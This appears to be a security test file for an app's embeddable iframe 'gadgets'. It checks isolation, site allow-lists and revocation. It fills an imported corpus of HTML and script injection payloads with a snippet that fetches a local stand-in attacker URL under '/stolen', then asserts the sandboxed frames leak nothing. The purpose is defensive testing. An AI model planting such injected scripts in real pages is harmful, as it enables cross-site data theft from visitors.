import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { GadgetOptions, Person } from "@tessera/model";
import type { GadgetReply } from "@tessera/model/api";
import { ATTACKS } from "@tessera/page/attack-corpus";
import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import { browserPath, launchOptions } from "../../../../scripts/browser-path.ts";
import { URL_OF_PAGE } from "../check/check-world.fixture.ts";
import { type ApiWorld, openApiWorld } from "./api-world.fixture.ts";

/** Pages are served from memory under public names; what embeds them is a real page of another origin. */
let world: ApiWorld;
let ada: Person;
let browser: Browser;
let blog: Server;
let ours = "";
let blogUrl = "";
/** Everything that the attacker's host was asked for. */
const stolen: string[] = [];
/** What the page of the other site shows. */
let embedding = "";

beforeAll(async () => {
  expect(browserPath()).not.toBe("");
  world = await openApiWorld();
  ada = await world.addPerson();
  await world.store.settings.change({ allowsGadgets: true });
  ours = (await world.app.listen({ host: "127.0.0.1", port: 0 })).replace("127.0.0.1", "localhost");
  blog = createServer((request, response) => {
    if (request.url?.startsWith("/stolen")) stolen.push(request.url);
    response.writeHead(200, { "content-type": "text/html" }).end(request.url === "/" ? embedding : "");
  }).listen(0, "127.0.0.1");
  await once(blog, "listening");
  blogUrl = `http://127.0.0.1:${(blog.address() as AddressInfo).port}`;
  browser = await chromium.launch(launchOptions());
});
afterAll(async () => {
  await browser?.close();
  blog?.close().closeAllConnections();
  await world?.close();
});

let pagesMade = 0;

async function gadgetOf(body: string, options: Partial<GadgetOptions> = {}): Promise<GadgetReply> {
  const url = `https://news.example/${++pagesMade}`;
  world.web.set(url, `<!doctype html><title>News</title><main id=block><h1>Block</h1>${body}</main>`);
  const { follow } = await world.follow(ada, { kind: "css", selector: "#block" }, {}, { url });
  const payload = { followId: follow.id, options };
  const answer = await world.ask(ada, { method: "POST", url: "/api/v1/gadgets", payload });
  // the server is reached by another name than that of the tests' requests
  const src = `${ours}${new URL(answer.json().url).pathname}`;
  return { ...answer.json(), url: src, html: answer.json().html.replace(/src="[^"]*"/, `src="${src}"`) };
}

async function visitor(): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  onTestFinished(() => context.close());
  return { context, page: await context.newPage() };
}

/** So many in one page; some swallow what comes after them. */
const ATTACKS_A_PAGE = 25;

/** All attacks that need no click, in some pages. */
function attackPages(origin: string): readonly string[] {
  // without quotes and spaces, so that it fits into any attribute
  const js = `fetch(\`${origin}/stolen/js\`),parent.postMessage(\`hit\`,\`*\`)`;
  const loud = ATTACKS.filter(({ isQuiet }) => !isQuiet);
  const written = loud.map(({ html }) => html.replaceAll("~js~", js).replaceAll("~url~", `${origin}/stolen/url`));
  const pages = Math.ceil(written.length / ATTACKS_A_PAGE);
  return Array.from({ length: pages }, (_, at) =>
    written.slice(at * ATTACKS_A_PAGE, (at + 1) * ATTACKS_A_PAGE).join("\n"),
  );
}

test("the gadget: a page full of attacks, embedded on another site, does nothing to it and asks nobody", async () => {
  // the unprotected variant first: shown as it is, the same page steals
  const pages = attackPages(blogUrl);
  const bare = await visitor();
  embedding = pages[0] ?? "";
  await bare.page.goto(blogUrl).catch(() => {});
  await expect.poll(() => stolen.length, { timeout: 30_000 }).toBeGreaterThan(3);
  await bare.context.close();
  stolen.length = 0;

  const frames: string[] = [];
  for (const [at, body] of pages.entries()) {
    const { html } = await gadgetOf(body);
    // whoever embeds it may leave out the sandbox of the frame
    frames.push(at % 2 === 0 ? html : html.replace(/ sandbox="[^"]*"/, ""));
  }
  const hears = '<script>onmessage = () => { document.title = "hit" }</script>';
  embedding = `<!doctype html><title>Blog</title>${hears}${frames.join("").replaceAll('loading="lazy"', "")}`;
  const { context, page } = await visitor();
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await page.goto(blogUrl);
  for (const at of frames.keys()) {
    await page.locator("iframe").nth(at).contentFrame().getByRole("heading", { name: "Block", exact: true }).waitFor();
  }
  await page.waitForLoadState("networkidle");
  expect(stolen).toEqual([]);
  expect(await page.title()).toBe("Blog");
  expect(asked.filter((url) => !url.startsWith(ours) && !url.startsWith(blogUrl) && !url.startsWith("data:"))).toEqual(
    [],
  );
  expect(await context.cookies()).toEqual([]);
});

test("only the sites that were named show it, and revocation takes effect at the next load", async () => {
  const { html: elsewhere } = await gadgetOf("<p>For others</p>", { sites: ["https://other.example"] });
  embedding = `<!doctype html><title>Blog</title>${elsewhere}`;
  const refused = await visitor();
  await refused.page.goto(blogUrl);
  await refused.page.waitForLoadState("networkidle");
  expect(refused.page.frames().some((frame) => frame.url().startsWith(`${ours}/gadgets/`))).toBe(false);

  const { id, html } = await gadgetOf("<p>For this one</p>", { sites: [blogUrl] });
  embedding = `<!doctype html><title>Blog</title>${html}`;
  const { page } = await visitor();
  await page.goto(blogUrl);
  await page.frameLocator("iframe").getByText("For this one").waitFor();
  await world.ask(ada, { method: "DELETE", url: `/api/v1/gadgets/${id}` });
  await page.reload();
  await page.frameLocator("iframe").getByText("This is no longer shown here.").waitFor();
});

test("a sheet on another site shows its blocks, each in a frame of its own", async () => {
  world.web.set(URL_OF_PAGE, "<!doctype html><title>News</title><main id=block><h1>On the sheet</h1></main>");
  const { follow } = await world.follow(ada, { kind: "css", selector: "h1" });
  const post = (url: string, payload: object) => world.ask(ada, { method: "POST", url: `/api/v1${url}`, payload });
  const sheet = (await post("/sheets", { title: "My sheet" })).json();
  await post(`/sheets/${sheet.id}/tiles`, { followId: follow.id });
  const made: GadgetReply = (await post("/gadgets", { sheetId: sheet.id, options: { sites: [blogUrl] } })).json();
  embedding = made.html.replace(/src="[^"]*"/, `src="${ours}${new URL(made.url).pathname}"`);
  const { page } = await visitor();
  await page.goto(blogUrl);
  const outer = page.frameLocator("iframe");
  await outer.getByRole("heading", { name: "My sheet" }).waitFor();
  await outer.frameLocator("iframe").getByRole("heading", { name: "On the sheet" }).waitFor();
});
